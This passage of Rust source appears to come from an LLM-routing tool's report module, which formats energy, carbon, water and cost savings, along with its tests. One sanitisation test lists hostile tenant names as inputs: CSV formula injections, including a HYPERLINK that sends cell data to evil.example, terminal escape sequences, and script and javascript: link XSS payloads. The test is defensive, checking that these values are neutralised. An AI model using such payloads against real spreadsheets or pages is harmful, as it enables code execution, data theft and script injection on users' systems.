    out.push_str(&format!(
        "- CO2e emitted: {}, of which embodied (hardware manufacturing) {}\n",
        human(t.co2e_actual_g, "g"),
        human(t.co2e_embodied_actual_g, "g")
    ));
    out.push_str(&format!("- Water used: {}\n", human(t.water_actual_ml, "mL")));
    out.push_str(&format!(
        "- SCI: {} CO2e per chat request (embodied included; avoided emissions do not lower it)\n",
        human(t.sci_gco2e_per_request, "g")
    ));
    out.push_str(&format!("- Spend: {}\n", human(t.cost_actual_usd, "USD")));
    out.push_str(&format!(
        "- Energy per chat request: {} (a figure, not a grade: it depends on the model chosen)\n",
        figure(t.energy_per_chat_request_wh, "Wh")
    ));
    out.push_str("\n## Avoided (reported apart, never netted with the above)\n\n");
    out.push_str(&format!("Reference scenario: {}\n\n", report.reference_scenario));
    out.push_str(&format!("- Energy saved: {}\n", human(t.energy_saved_wh, "Wh")));
    out.push_str(&format!("- CO2e saved: {}\n", human(t.co2e_saved_g, "g")));
    out.push_str(&format!("- Water saved: {}\n", human(t.water_saved_ml, "mL")));
    out.push_str(&format!("- Spend avoided: {}\n", human(t.cost_saved_usd, "USD")));
    if t.by_route.cache > 0 {
        out.push_str(&format!(
            "- Of the energy saved, on {} repeats answered from the cache: {}\n",
            t.by_route.cache,
            human(t.energy_saved_on_repeats_wh, "Wh")
        ));
    }
    out.push_str(&format!(
        "- Routing grade {} ({:.1}% of the reference LLM energy avoided; {LABEL_SOURCE})\n",
        t.eco_label,
        t.avoided_energy_share * 100.0
    ));
    out.push_str("\n## What the figures rest on\n\n");
    let metered = if t.measured_requests > 0 {
        format!(
            "; the GPU energy of {} LLM calls on metered GPUs ({})",
            t.measured_requests,
            human(t.energy_actual_measured_wh, "Wh")
        )
    } else {
        String::new()
    };
    out.push_str(&format!(
        "- Measured: the proxy's and the search's CPU time on every request{metered}. Estimated: every other LLM call and every avoided one, by the EcoLogits method; embodied emissions, from hardware figures.\n"
    ));
    if t.unpriced_requests > 0 {
        out.push_str(&format!(
            "- {} requests used a model without a price: their spend is unknown, not $0, and is left out of spend and spend avoided (set `energy.prices`).\n",
            t.unpriced_requests
        ));
    }
    if t.shadow.requests > 0 {
        out.push_str(&format!(
            "- Shadow mode (not counted above): {} requests, {} of which search would have answered, saving {}\n",
            t.shadow.requests,
            t.shadow.would_answer_from_search,
            human(t.shadow.would_save_energy_wh, "Wh")
        ));
    }
    if t.by_route.downgraded > 0 {
        out.push_str(&format!(
            "- Served by a cheaper model than asked for (model tiers): {} requests\n",
            t.by_route.downgraded
        ));
    }
    if t.tiers.requests > 0 {
        out.push_str(&format!(
            "- Model tiers saved {}, {} and {} on {} requests served by a cheaper model ({} chosen by the difficulty router); part of the savings above, the rest is search and the cache\n",
            human(t.tiers.energy_saved_wh, "Wh"),
            human(t.tiers.co2e_saved_g, "gCO2e"),
            human(t.tiers.cost_saved_usd, "USD"),
            t.tiers.requests,
            t.tiers.by_difficulty
        ));
    }
    for promise in &t.tiers.router_promises {
        out.push_str(&format!("- Difficulty router at {promise}\n"));
    }
    if t.tier_shadow.requests > 0 {
        out.push_str(&format!(
            "- Model tiers in shadow mode (not counted above): {} requests would have gone to a cheaper model, saving {} and {}\n",
            t.tier_shadow.requests,
            human(t.tier_shadow.would_save_energy_wh, "Wh"),
            human(t.tier_shadow.would_save_cost_usd, "USD")
        ));
    }
    if t.tier_shadow.reviews > 0 {
        out.push_str(&format!(
            "- Tier reviews: {} extra calls to cheaper models to compare answers, costing {} (counted above)\n",
            t.tier_shadow.reviews,
            human(t.tier_shadow.review_energy_wh, "Wh")
        ));
    }
    if t.unknown_model_requests > 0 {
        out.push_str(&format!(
            "- {} requests used a model not in the catalogue; their figures use the stated default, and {} of the energy saved rests on it.\n",
            t.unknown_model_requests,
            human(t.energy_saved_on_default_model_wh, "Wh")
        ));
    }
    if !t.model_resolutions.is_empty() {
        out.push_str(&format!(
            "- Model names priced by a catalogue entry of another name: {}. {} requests rest on another spelling's entry (family), {} of the energy saved.\n",
            t.model_resolutions.iter().cloned().collect::<Vec<_>>().join("; "),
            t.substituted_model_requests,
            human(t.energy_saved_on_substituted_model_wh, "Wh")
        ));
    }
    if t.by_route.search > 0 {
        out.push_str(&format!(
            "- Avoided answer length: from this ledger's LLM answers to lookups for {} search answers, from the stated prior for {}.\n",
            t.avoided_length_from_history, t.avoided_length_from_prior
        ));
    }
    out.push_str(&format!(
        "\n| {} | requests | search | LLM avoided | energy saved | CO2e saved | spend avoided |\n",
        report.by
    ));
    out.push_str("| --- | ---: | ---: | ---: | ---: | ---: | ---: |\n");
    for g in &report.groups {
        let s = &g.totals;
        // A group with no key (requests the grouping does not apply to) is named, not blank.
        let key = if g.key.is_empty() { "(none)" } else { g.key.as_str() };
        out.push_str(&format!(
            "| {} | {} | {} | {:.1}% | {} | {} | {} |\n",
            markdown_text(key),
            s.requests,
            s.by_route.search,
            s.llm_avoided_share * 100.0,
            human(s.energy_saved_wh, "Wh"),
            human(s.co2e_saved_g, "g"),
            spend(s, s.cost_saved_usd)
        ));
    }
    out.push_str("\n## Settings\n\n");
    out.push_str(&settings_markdown(&report.settings));
    out.push_str(&format!("\nBoundary: {}\n\nSources:\n", report.boundary));
    for source in report.sources {
        out.push_str(&format!("- {}: {}\n", source.what, source.reference));
    }
    out.push_str(
        "\nEach figure is a central estimate with its low to high range. \
The low end is the conservative claim: the LLM-inference method (EcoLogits) gives higher per-call energy than \
some independent estimates, so savings at the central figure are at the generous end.\n",
    );
    out
}

/// The settings behind a report in sentences, one per recorded set, then what is missing: the
/// lines every format prints (as bullets or list items).
pub(crate) fn settings_lines(s: &SettingsSummary) -> Vec<String> {
    let mut lines: Vec<String> = s
        .each
        .iter()
        .map(|each| {
            format!(
                "{} (first used {}): {}",
                each.hash,
                civil(each.first_seen_ms.div_euclid(86_400_000)),
                settings_sentence(&each.settings)
            )
        })
        .collect();
    let unrecorded = s
        .hashes
        .iter()
        .filter(|h| !s.each.iter().any(|e| &e.hash == *h))
        .count();
    if unrecorded > 0 {
        lines.push(format!(
            "{unrecorded} settings hash(es) without a record in this ledger"
        ));
    }
    if s.rows_without_settings > 0 {
        lines.push(format!(
            "{} rows written before ecoroute recorded settings (their CO2e leaves out embodied emissions)",
            s.rows_without_settings
        ));
    }
    if s.each.len() > 1 {
        lines.push("the rows span several settings: the figures of each are added as they were recorded".into());
    }
    lines
}

fn settings_markdown(s: &SettingsSummary) -> String {
    let lines = settings_lines(s);
    if lines.is_empty() {
        return "- none recorded (no rows)\n".into();
    }
    lines.iter().map(|line| format!("- {line}\n")).collect()
}

/// One set of settings in words, for every format that prints them.
fn settings_sentence(e: &crate::energy::EnergySettings) -> String {
    let mut text = format!(
        "{}; catalogue {}; local zone {} ({}, {} gCO2e/kWh); PUE {}; {}–{} W per busy core; host embodied {}–{} g per core-hour; avoided answer length: {}",
        e.method_version,
        e.catalogue_version,
        e.zone,
        e.zone_name,
        e.zone_gco2e_per_kwh,
        e.pue,
        e.watts_per_core[0],
        e.watts_per_core[1],
        e.embodied_g_per_core_hour[0],
        e.embodied_g_per_core_hour[1],
        e.counterfactual_basis
    );
    if let Some([low, high]) = e.search_wh_per_query {
        text.push_str(&format!("; search {low}–{high} Wh per query (configured)"));
    }
    match e.host_watts {
        Some([low, high]) => text.push_str(&format!("; proxy host baseline {low}–{high} W over the time served")),
        None => text.push_str("; proxy host baseline not counted (energy.host_watts unset)"),
    }
    for meter in &e.meters {
        text.push_str(&format!("; meter {meter}"));
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::energy::RequestCosts;
    use crate::ledger::Accounting;
    use proptest::prelude::*;

    fn row(ts_ms: i64, route: &str, escalated: bool, saved: f64, tenant: &str) -> LedgerRecord {
        let impacts = |x: f64| Impacts {
            energy_wh: Range::new(x * 0.5, x * 1.5),
            co2e_g: Range::exact(x),
            water_ml: Range::exact(x),
            cost_usd: Range::exact(x / 100.0),
        };
        LedgerRecord {
            ts_ms,
            route: crate::ledger::RouteTaken::parse(route).unwrap_or_default(),
            escalated,
            tenant: Some(tenant.into()),
            accounting: Some(Accounting {
                costs: RequestCosts {
                    actual: impacts(0.0),
                    counterfactual: impacts(saved.max(0.0)),
                    saved: impacts(saved),
                    ..RequestCosts::default()
                },
                counterfactual_tokens: None,
                tokens_from_history: false,
                shadow_saved: None,
                tier_shadow_saved: None,
                counterfactual_tokens_bounds: None,
            }),
            ..LedgerRecord::default()
        }
    }

    /// A group whose every request used an unpriced model shows its spend as unknown, not $0; a
    /// group with some shows what is known and says the rest is not (the energy audit's L3).
    #[test]
    fn unpriced_groups_do_not_show_zero_spend() {
        let unpriced = |ts: i64, tenant: &str| {
            let mut r = row(ts, "search", false, 0.4, tenant);
            if let Some(a) = r.accounting.as_mut() {
                a.costs.unpriced = true;
                a.costs.saved.cost_usd = Range::default();
            }
            r
        };
        let rows = [
            unpriced(0, "ops"),
            unpriced(1, "mixed"),
            row(2, "search", false, 0.4, "mixed"),
        ];
        let r = build(&rows, GroupBy::Tenant, None, None);
        let markdown = to_markdown(&r);
        let line = |key: &str| {
            markdown
                .lines()
                .find(|l| l.starts_with(&format!("| {key} |")))
                .unwrap()
                .to_string()
        };
        assert!(line("ops").ends_with("| unknown (1 unpriced) |"), "{}", line("ops"));
        assert!(line("mixed").contains("+ unknown for 1 unpriced"), "{}", line("mixed"));
        assert!(!line("ops").contains("$0"));
        let html = crate::report::html::render(
            &rows,
            &[],
            None,
            None,
            0,
            crate::report::html::Page::Report,
            Some(GroupBy::Tenant),
        );
        assert!(html.contains("unknown (1 unpriced)"));
    }

    /// A manager sees how much of a saving rests on defaults: the unknown-model default, and the
    /// prior for the avoided answer's length.
    #[test]
    fn the_report_says_how_much_rests_on_defaults() {
        let mut unknown = row(0, "search", false, 0.4, "t");
        if let Some(a) = unknown.accounting.as_mut() {
            a.costs.model_fallback = true;
            a.tokens_from_history = true;
        }
        let known = row(1, "search", false, 0.6, "t");
        let r = build(&[unknown, known], GroupBy::Tenant, None, None);
        let t = &r.totals;
        assert!((t.energy_saved_on_default_model_wh.central - 0.4).abs() < 1e-12);
        assert!((t.energy_saved_wh.central - 1.0).abs() < 1e-12);
        assert_eq!((t.avoided_length_from_history, t.avoided_length_from_prior), (1, 1));
        let markdown = to_markdown(&r);
        assert!(markdown.contains("rests on it"), "{markdown}");
        assert!(markdown.contains("from the stated prior for 1"), "{markdown}");
        let html = crate::report::html::render(&[], &[], None, None, 0, crate::report::html::Page::Report, None);
        assert!(
            !html.contains("What the figures rest on"),
            "nothing to say without requests"
        );
    }

    /// The grade is what routing avoided of the reference LLM energy, by one method: free
    /// pass-through calls cannot move it, nor can the model chosen (the energy audit's M2: a
    /// shadow-mode tenant on a small model, 0% avoided, got an A), nor cheap repeats from the cache
    /// (30 repeats moved a tenant from C to B with its LLM energy unchanged); the repeats' saving
    /// is shown apart.
    #[test]
    fn the_grade_is_what_routing_avoided_not_the_model_or_repeats() {
        let llm = |ts: i64, wh: f64| {
            let mut r = row(ts, "llm", false, 0.0, "t");
            if let Some(a) = r.accounting.as_mut() {
                a.costs.actual.energy_wh = Range::exact(wh);
                a.costs.counterfactual.energy_wh = Range::exact(wh);
            }
            r
        };
        // A small model, nothing avoided: no credit for the model choice.
        let small = build(&[llm(0, 0.003), llm(1, 0.003)], GroupBy::Tenant, None, None);
        assert_eq!(small.totals.eco_label, "E");
        // Three LLM calls of 0.2 Wh and one search answer that avoided 0.2 Wh: a quarter.
        let mut rows = vec![llm(0, 0.2), llm(1, 0.2), llm(2, 0.2), row(3, "search", false, 0.2, "t")];
        let before = build(&rows, GroupBy::Tenant, None, None);
        assert!((before.totals.avoided_energy_share - 0.25).abs() < 1e-12);
        assert_eq!(before.totals.eco_label, "B");
        rows.extend((1..=30).map(|i| row(i + 3, "passthrough", false, 0.0, "t")));
        rows.extend((1..=30).map(|i| row(i + 40, "cache", false, 0.2, "t")));
        let after = build(&rows, GroupBy::Tenant, None, None);
        assert_eq!(after.totals.eco_label, "B");
        assert!((after.totals.avoided_energy_share - 0.25).abs() < 1e-12);
        assert!((after.totals.energy_saved_on_repeats_wh.central - 6.0).abs() < 1e-9);
        let csv = to_csv(&after);
        let header = csv_fields(csv.lines().next().unwrap());
        let total = csv_fields(csv.lines().last().unwrap());
        let label = header.iter().position(|h| h == "eco_label").unwrap();
        assert_eq!(total[label], "B", "{csv}");
        let json = serde_json::to_value(&after).unwrap();
        assert_eq!(json["eco_label"], "B");
        let markdown = to_markdown(&after);
        assert!(
            markdown.contains("Routing grade B") && markdown.contains("30 repeats"),
            "{markdown}"
        );
        assert!(json["sources"].as_array().is_some_and(|s| s.len() == SOURCES.len()));
        assert!(json["boundary"].as_str().unwrap().contains("location-based"));
        assert!(json["reference_scenario"].as_str().unwrap().contains("marginal"));
        assert!(json["ecoroute_version"].as_str().unwrap().starts_with("ecoroute "));
        assert!(markdown.contains("Sources:") && markdown.contains("Reference scenario:"));
    }

    #[test]
    fn dates_round_trip_and_weeks_start_on_monday() {
        assert_eq!(civil(0), "1970-01-01");
        assert_eq!(days_from_civil("2026-11-24"), Some(20_781));
        assert_eq!(civil(20_781), "2026-11-24");
        let tuesday = LedgerRecord {
            ts_ms: 20_781 * 86_400_000 + 5_000,
            ..LedgerRecord::default()
        };
        assert_eq!(GroupBy::Week.key(&tuesday), "2026-11-23");
        assert_eq!(GroupBy::Month.key(&tuesday), "2026-11");
        assert_eq!(days_from_civil("2026-13-01"), None);
    }

    #[test]
    fn totals_and_groups_add_up() {
        let day = 86_400_000;
        let rows = vec![
            row(0, "search", false, 0.5, "a"),
            row(10, "search", false, 0.5, "b"),
            row(day, "llm", false, -0.001, "a"),
            row(day + 1, "llm", true, -0.002, "a"),
            row(day + 2, "passthrough", false, -0.0001, "b"),
        ];
        let r = build(&rows, GroupBy::Day, None, None);
        assert_eq!(r.totals.requests, 5);
        assert_eq!(
            r.totals.by_route,
            ByRoute {
                search: 2,
                llm: 1,
                escalated: 1,
                passthrough: 1,
                cache: 0,
                downgraded: 0
            }
        );
        assert!((r.totals.llm_avoided_share - 0.5).abs() < 1e-12);
        assert!((r.totals.energy_saved_wh.central - (1.0 - 0.0031)).abs() < 1e-12);
        assert_eq!(r.groups.len(), 2);
        let sum: f64 = r.groups.iter().map(|g| g.totals.energy_saved_wh.central).sum();
        assert!((sum - r.totals.energy_saved_wh.central).abs() < 1e-12);
        let by_tenant = build(&rows, GroupBy::Tenant, None, None);
        assert_eq!(
            by_tenant.groups.iter().map(|g| g.key.as_str()).collect::<Vec<_>>(),
            ["a", "b"]
        );
    }

    #[test]
    fn json_contract_has_the_documented_fields() {
        let r = build(
            &[row(0, "search", false, 0.5, "a")],
            GroupBy::Route,
            Some("2026-11-01".into()),
            None,
        );
        let v = serde_json::to_value(&r).unwrap();
        for field in [
            "requests",
            "by_route",
            "llm_avoided_share",
            "energy_saved_wh",
            "co2e_saved_g",
            "water_saved_ml",
            "cost_saved_usd",
            "groups",
            "method_version",
        ] {
            assert!(v.get(field).is_some(), "{field} missing from {v}");
        }
        for bound in ["low", "central", "high"] {
            assert!(v["energy_saved_wh"][bound].is_number());
        }
        assert_eq!(v["groups"][0]["key"], "search");
        assert!(
            v["groups"][0]["energy_saved_wh"]["central"].is_number(),
            "groups carry the same fields"
        );
    }

    /// A CSV line's fields, quotes honoured.
    fn csv_fields(line: &str) -> Vec<String> {
        let mut fields = vec![String::new()];
        let mut quoted = false;
        let mut chars = line.chars().peekable();
        while let Some(c) = chars.next() {
            match c {
                '"' if quoted && chars.peek() == Some(&'"') => {
                    chars.next();
                    fields.last_mut().unwrap().push('"');
                }
                '"' => quoted = !quoted,
                ',' if !quoted => fields.push(String::new()),
                c => fields.last_mut().unwrap().push(c),
            }
        }
        fields
    }

    /// L7 (attack review 2026-12-06): tenants and models are client-chosen, and reached the CSV as
    /// formulas, the Markdown as raw HTML, and every format with raw ESC and BEL bytes.
    #[test]
    fn client_chosen_names_are_neutralised_in_csv_markdown_and_html() {
        let hostile = [
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "+1",
            "-2",
            "\tx",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "\u{1b}]0;PWNED\u{7}\u{1b}[2J",
            "<script>alert(1)</script>",
            "<img/src=x/onerror=alert(1)>",
            "[x](javascript:alert(1))",
        ];
        let rows: Vec<LedgerRecord> = hostile
            .iter()
            .enumerate()
            .map(|(i, t)| row(i64::try_from(i).unwrap(), "search", false, 0.1, t))
            .collect();
        let r = build(&rows, GroupBy::Tenant, None, None);
        let csv = to_csv(&r);
        for line in csv.lines().skip(1) {
            let key = &csv_fields(line)[0];
            assert!(!key.starts_with(['=', '+', '-', '@', '\t', '\r']), "{key:?}");
        }
        assert!(csv.contains("'=cmd|' /C calc'!A0"), "the text is kept, as text: {csv}");
        let md = to_markdown(&r);
        let html = html::render(&rows, &[], None, None, 0, html::Page::Report, Some(GroupBy::Tenant));
        for (format, text) in [("csv", &csv), ("md", &md), ("html", &html)] {
            assert!(!text.contains(['\u{1b}', '\u{7}']), "{format}: no ESC or BEL");
        }
        assert!(!md.contains("<script>") && !md.contains("<img"), "{md}");
        assert!(md.contains("&lt;script&gt;"));
        assert!(!md.contains("[x](javascript"), "no link made: {md}");
    }

    #[test]
    fn csv_has_a_row_per_group_and_a_total() {
        let r = build(&[row(0, "search", false, 0.5, "a,b")], GroupBy::Tenant, None, None);
        let csv = to_csv(&r);
        let lines: Vec<&str> = csv.lines().collect();
        assert_eq!(lines.len(), 3);
        let header = csv_fields(lines[0]);
        assert_eq!(header.len(), csv_fields(lines[1]).len());
        assert_eq!(header.len(), csv_fields(lines[2]).len());
        assert!(lines[1].starts_with("\"a,b\","), "{}", lines[1]);
        assert!(to_markdown(&r).contains("Energy saved"));
        // Actual figures, the method and the sources travel in the CSV too.
        let total = csv_fields(lines[2]);
        let column = |name: &str| header.iter().position(|h| h == name).unwrap();
        assert!(total[column("co2e_actual_g_central")].parse::<f64>().is_ok());
        assert!(total[column("sci_gco2e_per_request_high")].parse::<f64>().is_ok());
        assert_eq!(total[column("method_version")], METHOD_VERSION);
        assert_eq!(total[column("ecoroute_version")], ECOROUTE_VERSION);
        assert!(
            total[column("cost_actual_usd_central")].parse::<f64>().is_ok(),
            "actual spend too"
        );
        assert!(total[column("sources")].contains("EcoLogits 0.11.3"), "{}", lines[2]);
    }

    /// The footprint is reported beside the saving, never netted with it: SCI per chat request is
    /// actual CO2e (embodied included) over chat requests, whatever was avoided.
    #[test]
    fn actual_footprint_and_sci_stand_beside_the_saving() {
        let mut llm = row(0, "llm", false, -0.001, "t");
        let mut search = row(1, "search", false, 0.5, "t");
        for (r, co2e, embodied) in [(&mut llm, 0.3, 0.05), (&mut search, 0.001, 0.0001)] {
            let a = r.accounting.as_mut().unwrap();
            a.costs.actual.co2e_g = Range::exact(co2e);
            a.costs.actual_embodied_g = Range::exact(embodied);
            r.settings_hash = Some("abc123".into());
        }
        let pass = row(2, "passthrough", false, 0.0, "t");
        let r = build(&[llm, search, pass], GroupBy::Tenant, None, None);
        let t = &r.totals;
        assert!((t.co2e_actual_g.central - 0.301).abs() < 1e-12);
        assert!((t.co2e_embodied_actual_g.central - 0.0501).abs() < 1e-12);
        assert!(
            (t.sci_gco2e_per_request.central - 0.1505).abs() < 1e-12,
            "two chat requests: {t:?}"
        );
        assert!(t.co2e_saved_g.central > 0.0, "the saving is still there, apart");
        let json = serde_json::to_value(&r).unwrap();
        for key in ["co2e_actual_g", "water_actual_ml", "sci_gco2e_per_request"] {
            for bound in ["low", "central", "high"] {
                assert!(json[key][bound].is_number(), "{key}.{bound} in {json}");
            }
        }
        assert_eq!(json["settings"]["hashes"], serde_json::json!(["abc123"]));
        assert_eq!(json["settings"]["rows_without_settings"], 1);
        let markdown = to_markdown(&r);
        assert!(
            markdown.contains("## Actual footprint") && markdown.contains("SCI:"),
            "{markdown}"
        );
        assert!(markdown.contains("without a record"), "{markdown}");
    }

    /// The report names the settings its rows were computed under, from the ledger's record.
    #[test]
    fn the_report_states_the_settings_it_covers() {
        let energy = crate::config::Config::from_toml_str("", std::path::Path::new("t.toml"), &|_| None)
            .unwrap()
            .energy;
        let settings = energy.settings();
        let hash = settings.hash();
        let mut a = row(0, "search", false, 0.5, "t");
        a.settings_hash = Some(hash.clone());
        let recorded = vec![StoredSettings {
            hash: hash.clone(),
            first_seen_ms: 0,
            settings: settings.clone(),
        }];
        let r = build(&[a], GroupBy::Day, None, None).with_settings(&recorded);
        let json = serde_json::to_value(&r).unwrap();
        let s = &json["settings"];
        assert_eq!(s["hashes"][0], hash.as_str());
        assert_eq!(s["pue"], settings.pue);
        assert_eq!(s["watts_per_core"], serde_json::json!(settings.watts_per_core));
        assert!(s["zone"].as_str().unwrap().starts_with(&settings.zone));
        assert!(s["catalogue_version"].as_str().unwrap().contains("sha256:"));
        assert!(s["counterfactual_basis"].as_str().unwrap().contains("prior"));
        assert!(to_markdown(&r).contains(&hash));
        // Different settings, different hash.
        let mut other = settings.clone();
        other.pue = 1.2;
        assert_ne!(other.hash(), hash);
    }

    #[test]
    fn figures_read_in_the_unit_that_fits_without_exponents() {
        assert_eq!(figure(0.52, "Wh"), "0.520 Wh");
        assert_eq!(figure(0.000_049_93, "Wh"), "49.9 µWh");
        assert_eq!(figure(-0.016_64, "Wh"), "-16.6 mWh");
        assert_eq!(figure(2_400.0, "g"), "2.40 kg");
        assert_eq!(figure(0.012_34, "USD"), "$0.0123");
        assert_eq!(figure(-0.5, "USD"), "−$0.500");
        let r = Range {
            low: -0.000_049_93,
            central: -0.000_03,
            high: -0.000_016_64,
        };
        assert_eq!(human(r, "Wh"), "-30.0 µWh (-49.9 to -16.6)");
        let tiny = build(&[row(0, "llm", false, -0.000_02, "t")], GroupBy::Tenant, None, None);
        let markdown = to_markdown(&tiny);
        let exponent = regex::Regex::new(r"\de-\d").unwrap();
        assert!(!exponent.is_match(&markdown), "{markdown}");
        assert!(markdown.contains("≈$0"), "{markdown}");
        assert!(markdown.contains("µWh"), "{markdown}");
    }

    proptest! {
        #[test]
        fn groups_always_sum_to_the_total(savings in proptest::collection::vec((0i64..10, -1.0f64..1.0), 0..40)) {
            let rows: Vec<LedgerRecord> = savings.iter().map(|(d, s)| row(d * 86_400_000, if *s > 0.0 { "search" } else { "llm" }, false, *s, "t")).collect();
            let r = build(&rows, GroupBy::Day, None, None);
            let n: u64 = r.groups.iter().map(|g| g.totals.requests).sum();
            prop_assert_eq!(n, r.totals.requests);
            let e: f64 = r.groups.iter().map(|g| g.totals.energy_saved_wh.low).sum();
            prop_assert!((e - r.totals.energy_saved_wh.low).abs() < 1e-9);
        }
    }
}
